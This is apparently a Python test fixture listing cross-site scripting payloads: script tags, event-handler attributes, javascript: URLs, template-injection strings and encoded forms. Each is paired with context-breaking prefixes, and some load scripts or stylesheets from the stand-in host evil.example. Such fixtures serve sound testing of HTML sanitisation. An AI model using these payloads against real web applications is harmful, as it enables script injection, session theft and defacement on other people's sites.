"""Texts that would run, were they read as markup anywhere: every vector out of every context. Each sets `window.xss`
and leaves an element that `[data-xss]` finds."""

from __future__ import annotations

RUN = "window.xss=1"
VECTORS = (
    f"<script data-xss>{RUN}</script>",
    f"<ScRiPt data-xss>{RUN}</sCrIpT>",
    "<script data-xss src=//evil.example/x.js></script>",
    f"<img data-xss src=x onerror={RUN}>",
    f'<img data-xss src="x" onerror="{RUN}">',
    f"<IMG DATA-XSS SRC=x ONERROR={RUN}>",
    f"<img data-xss/src=x/onerror={RUN}>",
    f"<svg data-xss onload={RUN}>",
    f"<svg data-xss><script>{RUN}</script></svg>",
    f"<svg data-xss><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body data-xss onload={RUN}>",
    f"<iframe data-xss srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe data-xss src=javascript:parent.{RUN}></iframe>",
    f"<object data-xss data=javascript:{RUN}></object>",
    f"<embed data-xss src=javascript:{RUN}>",
    f"<a data-xss href=javascript:{RUN}>x</a>",
    f"<a data-xss href=' javascript:{RUN}'>x</a>",
    f"<form data-xss><button formaction=javascript:{RUN}>x</button></form>",
    f"<input data-xss onfocus={RUN} autofocus>",
    f"<select data-xss onfocus={RUN} autofocus></select>",
    f"<textarea data-xss onfocus={RUN} autofocus></textarea>",
    f"<details data-xss open ontoggle={RUN}>",
    f"<video data-xss><source onerror={RUN}></video>",
    f"<audio data-xss src=x onerror={RUN}>",
    f"<marquee data-xss onstart={RUN}>",
    f"<math data-xss><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template data-xss><script>{RUN}</script></template>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    f"<meta data-xss http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base data-xss href=//evil.example/>",
    "<style data-xss>@import '//evil.example/x.css';</style>",
    f"<noscript><p title='</noscript><img data-xss src=x onerror={RUN}>'>",
    f"<x data-xss onpointerover={RUN} style=position:fixed;inset:0>",
    "{{constructor.constructor('window.xss=1')()}}",
    f"${{{RUN}}}",
    f"javascript:{RUN}//",
    f"&lt;img data-xss src=x onerror={RUN}&gt;",
    f"\\u003cimg data-xss src=x onerror={RUN}\\u003e",
    f"%3Cimg data-xss src=x onerror={RUN}%3E",
    f"＜img data-xss src=x onerror={RUN}＞",
)
# What a text may have to end before its markup counts: an attribute, a script, JSON, a comment, a raw element.
CONTEXTS = ("", "\"'>", "</script></style></textarea></title>", '"}];--></svg>', "`]]>\u2028\\")

PAYLOADS = [context + vector for context in CONTEXTS for vector in VECTORS]
# Short enough for a name at the table.
NAMES = [
    f"<svg data-xss onload={RUN}>", f'"><b data-xss onclick={RUN}>', "'\"></title><b data-xss>", "{{7*7}}<i data-xss>",
    "</script><b data-xss>x", "<!--<b data-xss>", "&lt;b data-xss&gt;\"'`", "\\\"];</script><s data-xss>",
]  # fmt: skip
